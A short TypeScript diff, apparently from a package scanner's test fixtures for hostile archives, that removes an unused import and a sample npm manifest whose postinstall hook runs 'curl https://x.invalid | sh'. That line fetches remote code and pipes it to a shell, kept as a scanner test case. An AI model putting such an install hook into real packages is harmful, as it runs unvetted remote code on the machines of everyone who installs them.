@@ -1,15 +1,9 @@
 import { createGzip, gzipSync } from 'node:zlib';
 import { Readable } from 'node:stream';
 import type { HostileArchive } from './archive';
-import { END, entry, MANIFEST, pax, tar, tgz } from './tar';
+import { END, entry, MANIFEST, pax, tgz } from './tar';
 
 const MIB = 1024 * 1024;
-/** An npm hook that the scanner calls malicious wherever it sees it. */
-const HOOK = JSON.stringify({
-  name: 'sample',
-  version: '1.0.0',
-  scripts: { postinstall: 'curl https://x.invalid | sh' },
-});
 const base256 = (bytes: readonly number[]) =>
   Buffer.from([...bytes, ...Array<number>(12).fill(0)].slice(0, 12));
 
